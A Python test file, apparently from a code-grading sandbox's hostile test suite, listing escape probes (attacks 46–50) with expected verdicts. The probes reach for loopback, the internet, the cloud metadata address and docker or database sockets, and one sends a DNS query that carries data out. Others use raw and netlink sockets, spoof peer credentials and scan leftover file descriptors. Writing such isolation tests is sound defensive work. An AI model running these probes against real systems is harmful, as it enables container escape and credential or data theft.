"""Attacks 46–50: nobody to talk to."""

from __future__ import annotations

from grader.verdict import Verdict
from tests.hostile.attack import Attack, program, refused

AC, RE = Verdict.AC, Verdict.RE

NETWORK: tuple[Attack, ...] = (
    program(
        46,
        "loopback",
        "import socket\nsocket.create_connection(('127.0.0.1', 6379), 1)\nprint('ESCAPED')",
        RE,
    ),
    program(
        46,
        "host sockets",
        """
        import os, stat
        for folder, folders, names in os.walk('/'):
            folders[:] = [name for name in folders if folder != '/' or name not in ('proc', 'usr')]
            for name in names:
                if stat.S_ISSOCK(os.lstat(os.path.join(folder, name)).st_mode): print('ESCAPED', folder, name)
        """,
        AC,
    ),
    program(
        46,
        "the broker, the database and the sandbox by their usual names",
        """
        import os, socket
        for path in ('/run/redis/redis.sock', '/var/run/docker.sock', '/run/postgresql/.s.PGSQL.5432',
                     '/run/systemd/private', '/run/dbus/system_bus_socket', '/tmp/touchstone/broker.sock'):
            try:
                socket.socket(socket.AF_UNIX).connect(path)
                print('ESCAPED', path)
            except OSError: pass
        """,
        AC,
    ),
    program(
        47,
        "internet",
        "import socket\nsocket.create_connection(('1.1.1.1', 53), 1)\nprint('ESCAPED')",
        RE,
    ),
    program(
        47,
        "metadata address",
        "import urllib.request\nurllib.request.urlopen('http://169.254.169.254', None, 1)\nprint('ESCAPED')",
        RE,
    ),
    program(47, "names", "import socket\nsocket.getaddrinfo('example.org', 80)\nprint('ESCAPED')", RE),
    program(
        47,
        "a name that carries data out",
        """
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(b'\\0\\1\\1\\0\\0\\1' + bytes(6) + b'\\6secret\\7example\\3org\\0', ('127.0.0.53', 53))
        print('ESCAPED')
        """,
        RE,
    ),
    program(48, "netlink", "import socket\nsocket.socket(16, 3, 0)\nprint('ESCAPED')", RE),
    program(48, "vsock", "import socket\nsocket.socket(40, 1, 0)\nprint('ESCAPED')", RE),
    program(48, "raw packets", "import socket\nsocket.socket(17, 3, 0)\nprint('ESCAPED')", RE),
    refused(
        48,
        "every family but unix sockets",
        """
        for family in (*range(2, 46), 1 << 32 | 2): forbidden(41, family, 1, 0)
        for family in (2, 10, 16, 40): forbidden(53, family, 1, 0, ctypes.create_string_buffer(8))
        """,
    ),
    program(
        48,
        "abstract sockets of the host",
        """
        import socket
        names = open('/proc/self/net/unix').read().splitlines()[1:]
        if [line for line in names if '@' in line or '/' in line]: print('ESCAPED', names)
        for name in ('/tmp/dbus-x', '/tmp/.X11-unix/X0', '/org/freedesktop/systemd1/notify'):
            try:
                socket.socket(socket.AF_UNIX).connect('\\0' + name)
                print('ESCAPED', name)
            except OSError: pass
        """,
        AC,
    ),
    refused(
        49,
        "shared memory, semaphores and queues of System V",
        """
        forbidden(29, 0x746f7563, 4096, 0o1666)
        forbidden(64, 0x746f7563, 1, 0o1666)
        forbidden(68, 0x746f7563, 0o1666)
        """,
    ),
    refused(49, "message queues", "forbidden(240, b'touchstone', 0o102, 0o600, 0)"),
    program(
        50,
        "descriptors in flight",
        """
        import array, socket
        pairs = [socket.socketpair() for _ in range(40)]
        sent = 0
        try:
            while sent < 10**5:
                for left, right in pairs:
                    left.setblocking(False)
                    fds = array.array('i', [left.fileno(), right.fileno()] * 100)
                    left.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
                    sent += len(fds)
        except OSError: pass
        if sent > 9 * 10**4: print('ESCAPED', sent)
        """,
        AC,
    ),
    program(
        50,
        "credentials of somebody else",
        """
        import os, socket, struct
        left, right = socket.socketpair()
        for pid, uid in ((1, os.getuid()), (os.getpid(), 0)):
            try:
                left.sendmsg([b'x'], [(socket.SOL_SOCKET, 2, struct.pack('3i', pid, uid, uid))])
                print('ESCAPED', pid, uid)
            except OSError: pass
        """,
        AC,
    ),
    program(
        50,
        "descriptors that somebody left",
        """
        import os, socket
        for fd in range(3, 256):
            try:
                socket.socket(fileno=fd)
                print('ESCAPED', fd)
            except OSError: pass
        """,
        AC,
    ),
)
